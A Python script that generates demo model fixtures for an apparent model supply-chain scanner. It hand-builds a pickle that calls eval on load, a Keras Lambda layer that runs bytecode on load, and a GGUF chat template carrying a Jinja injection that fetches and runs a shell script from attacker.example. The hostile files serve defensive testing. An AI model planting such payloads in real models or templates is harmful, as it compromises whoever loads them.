# Writes the model files of fixtures/demo-project/models/ (the demo must work from a bare clone, so none of them is
# a copy of a third-party file). Run with Debian's own python3 (python3-torch, python3-sklearn):
#   /usr/bin/python3 scripts/demo/gen-models.py fixtures/demo-project/models
# Torch and scikit-learn files are written by those libraries; the pickle, safetensors, GGUF, ONNX and Keras files
# are laid out here byte by byte following each format's specification. It prints the sha256 the trusted registry
# pins for each file (trusted-registry/models.yml is then edited by hand to plant the problems the README lists).
import hashlib, io, json, os, pickle, struct, sys, zipfile

import numpy as np
import torch, torch.nn as nn
from sklearn.linear_model import LogisticRegression

OUT = sys.argv[1]
torch.manual_seed(7); np.random.seed(7)


def write(rel, data):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    print(f"{hashlib.sha256(data).hexdigest()}  {len(data):>7}  {rel}")


def torch_bytes(obj):
    buf = io.BytesIO(); torch.save(obj, buf); return buf.getvalue()


# embeddings/encoder.pt: a training checkpoint, while the registry pins the reviewed state dict (a swapped file).
class Encoder(nn.Module):
    def __init__(self):
        super().__init__(); self.proj = nn.Linear(8, 4); self.norm = nn.LayerNorm(4)

enc = Encoder()
reviewed = torch_bytes(enc.state_dict())
print(f"{hashlib.sha256(reviewed).hexdigest()}  {len(reviewed):>7}  (reviewed state dict the registry pins)")
write("embeddings/encoder.pt", torch_bytes({"epoch": 12, "model": enc.state_dict(),
                                            "optim": torch.optim.Adam(enc.parameters()).state_dict()}))

# legacy/classifier.pkl: a benign scikit-learn pickle (protocol 4).
X = np.random.rand(30, 3); y = (X[:, 1] > 0.4).astype(int)
write("legacy/classifier.pkl", pickle.dumps(LogisticRegression().fit(X, y), protocol=4))

# contrib/tokenizer_helper.pt: hand-made protocol-2 pickle that calls builtins.eval on load, named like a model.
payload = "__import__('os').system('echo demo: code ran while loading a model')".encode()
write("contrib/tokenizer_helper.pt",
      b"\x80\x02cbuiltins\neval\nX" + struct.pack("<I", len(payload)) + payload + b"\x85R.")

# sentiment/model.safetensors: 8-byte little-endian header length, JSON header, raw F16 data.
emb = (np.random.rand(64, 16).astype(np.float16)).tobytes()
header = json.dumps({"__metadata__": {"format": "pt"},
                     "embeddings": {"dtype": "F16", "shape": [64, 16], "data_offsets": [0, len(emb)]}},
                    separators=(",", ":"))
header += " " * (-(8 + len(header)) % 8)
write("sentiment/model.safetensors", struct.pack("<Q", len(header)) + header.encode() + emb)


# chat/router.onnx: an ONNX ModelProto (ir_version 8, opset 13) with one MatMul over an initializer.
def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F; n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n: return bytes(out)

def pb(fields):
    out = bytearray()
    for num, val in fields:
        if isinstance(val, int): out += varint(num << 3) + varint(val)
        else:
            data = val.encode() if isinstance(val, str) else val if isinstance(val, bytes) else pb(val)
            out += varint(num << 3 | 2) + varint(len(data)) + data
    return bytes(out)

FLOAT = 1
def value_info(name, dims):
    shape = [(1, [(1, d)]) for d in dims]
    return [(1, name), (2, [(1, [(1, FLOAT), (2, shape)])])]

weights = np.random.rand(4, 3).astype(np.float32)
graph = [(1, [(1, "X"), (1, "W"), (2, "Y"), (3, "route"), (4, "MatMul")]), (2, "intent-router"),
         (5, [(1, 4), (1, 3), (2, FLOAT), (8, "W"), (9, weights.tobytes())]),
         (11, value_info("X", [1, 4])), (12, value_info("Y", [1, 3]))]
write("chat/router.onnx", pb([(1, 8), (2, "chainproof-demo"), (7, graph), (8, [(2, 13)])]))


# chat/assistant.gguf: GGUF v3 whose tokenizer.chat_template is a Jinja server-side template injection payload.
def gstr(s):
    b = s.encode(); return struct.pack("<Q", len(b)) + b

kv = [("general.architecture", gstr("llama")), ("general.name", gstr("acme-assistant-tiny")),
      ("tokenizer.chat_template", gstr(
          "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
          "{{ c()._module.__builtins__['__import__']('os').popen('curl -s https://attacker.example/x | sh').read() }}"
          "{% endif %}{% endfor %}{% for m in messages %}{{ m['content'] }}{% endfor %}"))]
tensor = np.random.rand(8, 4).astype(np.float32).tobytes()
body = b"GGUF" + struct.pack("<IQQ", 3, 1, len(kv))
for key, value in kv:
    body += gstr(key) + struct.pack("<I", 8) + value  # 8 = string
body += gstr("token_embd.weight") + struct.pack("<I", 2) + struct.pack("<QQ", 4, 8) + struct.pack("<IQ", 0, 0)
body += b"\0" * (-len(body) % 32)  # general.alignment defaults to 32
write("chat/assistant.gguf", body + tensor)


# summarizer/model.keras: a Keras 3 archive (config.json, metadata.json, model.weights.h5) with a Lambda layer
# whose function is marshalled Python bytecode (Keras runs it when the model is loaded).
import base64, marshal
code = base64.b64encode(marshal.dumps((lambda t: t * 0.5).__code__)).decode()
config = {"module": "keras", "class_name": "Sequential", "config": {"name": "summarizer", "layers": [
    {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 16], "name": "tokens"}},
    {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 8}},
    {"module": "keras.layers", "class_name": "Lambda",
     "config": {"name": "scale", "function": {"class_name": "__lambda__", "config": {"code": code}}}}]}}
zbuf = io.BytesIO()
with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_STORED) as z:
    for name, data in [("metadata.json", json.dumps({"keras_version": "3.3.3", "date_saved": "2024-05-01@12:00:00"})),
                       ("config.json", json.dumps(config)), ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 56)]:
        info = zipfile.ZipInfo(name, date_time=(2024, 5, 1, 12, 0, 0))
        z.writestr(info, data)
write("summarizer/model.keras", zbuf.getvalue())
